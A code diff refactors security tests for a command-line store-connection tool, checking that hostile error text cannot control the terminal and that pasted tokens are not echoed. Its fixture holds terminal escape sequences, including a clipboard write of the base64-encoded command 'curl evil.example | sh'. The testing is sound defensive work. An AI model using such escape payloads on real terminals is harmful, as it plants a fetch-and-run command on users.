@@ -22,8 +22,7 @@ from urllib.parse import parse_qsl, urlencode, urlsplit
 
 import httpx
 
-from asc_tui.services.registry import open_registry
-from tests.connect.support import add_store
+from tests.connect.support import seed_store, start_connect
 
 # ESC ] 0 retitles the window, ESC [ 2 J clears the screen, ESC ] 52 writes the clipboard (base64
 # "curl evil.example | sh"), CSI in its C1 form, and a bidi override.
@@ -31,28 +30,6 @@ HOSTILE = (
     "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Seller said no\x9b31m\u202eevil"
 )
 RAW = ("\x1b", "\x07", "\x9b", "\u202e")
-
-
-def seed(name: str = "Shop US") -> None:
-    registry = open_registry(sandbox=True)
-    try:
-        add_store(registry, name, "US")
-    finally:
-        registry.close()
-
-
-def start_connect() -> tuple[subprocess.Popen[str], str]:
-    process = subprocess.Popen(
-        [sys.executable, "-m", "asc_tui", "--sandbox", "stores", "connect", "Shop US"],
-        stdin=subprocess.PIPE,
-        stdout=subprocess.PIPE,
-        stderr=subprocess.PIPE,
-        text=True,
-    )
-    assert process.stdout is not None
-    url = process.stdout.readline().strip()
-    assert "/apps/authorize/consent?" in url
-    return process, url
 
 
 def declined(consent_url: str, base: str) -> str:
@@ -69,8 +46,8 @@ def assert_clean(err: str) -> None:
 
 
 def test_a_pasted_error_description_cannot_drive_the_terminal(isolated_home: Path) -> None:
-    seed()
-    process, url = start_connect()
+    seed_store()
+    process, url = start_connect("Shop US")
     _out, err = process.communicate(
         declined(url, "https://admin.example.com/amazon/callback") + "\n", timeout=60
     )
@@ -81,8 +58,8 @@ def test_a_pasted_error_description_cannot_drive_the_terminal(isolated_home: Pat
 def test_an_error_description_sent_to_the_callback_worker_cannot_drive_the_terminal(
     isolated_home: Path,
 ) -> None:
-    seed()
-    process, url = start_connect()
+    seed_store()
+    process, url = start_connect("Shop US")
     assert process.stderr is not None
     waiting = ""
     while "Waiting for Amazon at " not in waiting:
@@ -123,8 +100,8 @@ def _ctrl_c_as_in_a_shell() -> None:
     signal.signal(signal.SIGINT, signal.SIG_DFL)
 
 
-def test_a_pasted_refresh_token_is_not_echoed_on_the_terminal(isolated_home: Path) -> None:
-    seed()
+def connect_on_a_terminal() -> tuple[int, int, subprocess.Popen[bytes]]:
+    """`stores connect` on a real pseudo-terminal: (its master end, its slave end, the process)."""
     master, slave = pty.openpty()
     process = subprocess.Popen(
         [sys.executable, "-m", "asc_tui", "--sandbox", "stores", "connect", "Shop US"],
@@ -134,6 +111,12 @@ def test_a_pasted_refresh_token_is_not_echoed_on_the_terminal(isolated_home: Pat
         close_fds=True,
         preexec_fn=_ctrl_c_as_in_a_shell,
     )
+    return master, slave, process
+
+
+def test_a_pasted_refresh_token_is_not_echoed_on_the_terminal(isolated_home: Path) -> None:
+    seed_store()
+    master, slave, process = connect_on_a_terminal()
     os.close(slave)
     seen: list[str] = []
     try:
@@ -158,16 +141,8 @@ def test_a_pasted_refresh_token_is_not_echoed_on_the_terminal(isolated_home: Pat
 
 def test_the_terminal_echoes_again_after_connect(isolated_home: Path) -> None:
     """Echo is turned off only while connecting: Ctrl-C puts the terminal back as it was."""
-    seed()
-    master, slave = pty.openpty()
-    process = subprocess.Popen(
-        [sys.executable, "-m", "asc_tui", "--sandbox", "stores", "connect", "Shop US"],
-        stdin=slave,
-        stdout=slave,
-        stderr=slave,
-        close_fds=True,
-        preexec_fn=_ctrl_c_as_in_a_shell,
-    )
+    seed_store()
+    master, slave, process = connect_on_a_terminal()
     seen: list[str] = []
     try:
         read_until(master, "press Enter; Ctrl-C cancels.", seen)
